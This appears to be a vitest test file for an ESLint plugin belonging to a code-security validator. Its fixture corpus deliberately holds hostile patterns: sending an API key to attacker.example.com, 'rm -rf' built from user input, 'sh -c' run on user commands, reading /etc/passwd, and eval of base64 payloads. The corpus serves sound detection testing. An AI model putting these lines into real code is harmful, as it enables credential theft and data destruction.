import { allRules, createValidator } from '@airlock/validator';
import { Linter } from 'eslint';
import { describe, expect, it } from 'vitest';
import plugin from './index.js';

/**
 * Code full of the patterns Airlock's rules look for. Each rule must report the same
 * places when it runs inside ESLint as when it runs inside the validator, whatever rules
 * are added later: the corpus is shared and the rule list is read from `allRules`.
 */
// Fixed bytes that look like an encoded payload, and escapes that spell code.
const encodedBlob = Buffer.from(
  Array.from({ length: 240 }, (_, i) => (i * 131 + 7) % 256),
).toString('base64');
const escapedCode = [...'require("child_process")']
  .map((c) => `\\x${c.charCodeAt(0).toString(16)}`)
  .join('');

const corpus = [
  `import { exec, spawnSync } from 'node:child_process';
import fs from 'fs';
import * as vm from 'node:vm';
export async function handler(input, env) {
  const key = process.env.OPENAI_API_KEY ?? globalThis.process.env.KEY;
  const { env: hostEnv } = process;
  exec('rm -rf ' + input.path);
  spawnSync('sh', ['-c', input.command]);
  fs.readFileSync('/etc/passwd', 'utf8');
  vm.runInNewContext(input.code, {});
  const res = await fetch('https://attacker.example.com/collect?k=' + key);
  return { key, hostEnv, res };
}`,
  `export async function dynamic(source, name) {
  eval(source);
  const f = new Function('a', 'return a * 2');
  setTimeout('alert(1)', 10);
  const mod = require(name);
  const other = await import('./' + name + '.js');
  const escape = ({}).constructor.constructor('return process')();
  const proto = Object.prototype.__proto__;
  globalThis['ev' + 'al']('1 + 1');
  return [f, mod, other, escape, proto];
}`,
  `export function spin(items) {
  while (true) {
    if (items.length === 0) continue;
  }
  for (;;) {}
  do { items.push(items.length) } while (1);
  const big = new Array(1e9).fill(0);
  const text = 'x'.repeat(2 ** 31);
  const decoded = Buffer.from('cmVxdWlyZQ==', 'base64').toString();
  const hidden = atob('ZXZhbA==');
  const s = String.fromCharCode(101, 118, 97, 108);
  process.exit(1);
  return [big, text, decoded, hidden, s];
}
export function deeper(n) { return deeper(n + 1); }`,
  `class Worker {
  #count = 0;
  constructor(env) { this.env = env; }
  async run(task) {
    this.#count += 1;
    const data = await this.env.kv.get(task.id);
    return data?.value ?? JSON.parse('{}');
  }
}
export const worker = new Worker({ kv: new Map() });`,
  `import net from 'node:net';
import axios from 'axios';
const { dlopen } = process;
process.binding('fs');
process.dlopen(module, '/tmp/evil.node');
Error.prepareStackTrace = (err, frames) => frames;
Array.prototype.map = function () { return []; };
JSON.parse = (text) => text;
export function up() { return arguments.callee.caller; }
export const runEncoded = (payload) => eval(atob(payload));
export const blob = '${encodedBlob}';
export const escaped = '${escapedCode}';
export { net, axios, dlopen };`,
];

function eslintPlaces(linter: Linter, ruleId: string, code: string): string[] {
  const config = {
    plugins: { airlock: plugin },
    rules: { [`airlock/${ruleId}`]: 'error' as const },
  };
  const messages = linter.verify(code, config);
  const fatal = messages.find((m) => m.fatal);
  if (fatal) throw new Error(`ESLint could not parse the corpus: ${fatal.message}`);
  return messages.map((m) => `${m.line}:${m.column} ${m.message}`);
}

function validatorPlaces(ruleId: string, code: string): string[] {
  const validator = createValidator({
    rules: Object.fromEntries(
      allRules.map((r) => [r.meta.id, r.meta.id === ruleId ? 'error' : 'off']),
    ),
  });
  const result = validator.validate(code, { language: 'javascript' });
  expect(result.parsed).toBe(true);
  return result.findings.map((f) => `${f.start?.line}:${f.start?.column} ${f.message}`);
}

describe('the same findings in ESLint and in the validator', () => {
  const linter = new Linter();

  for (const rule of allRules) {
    it(`${rule.meta.id} reports the same places with the same messages`, () => {
      for (const code of corpus) {
        const inEslint = eslintPlaces(linter, rule.meta.id, code).sort();
        const inValidator = validatorPlaces(rule.meta.id, code).sort();
        expect(inEslint).toEqual(inValidator);
      }
    });
  }

  // When a rule is added, add code it flags to the corpus, so its comparison means something.
  it('the corpus trips most rules, so the comparisons are not vacuous', () => {
    const tripped = allRules.filter((rule) =>
      corpus.some((code) => validatorPlaces(rule.meta.id, code).length > 0),
    );
    expect(tripped.length / allRules.length).toBeGreaterThanOrEqual(0.75);
  });
});
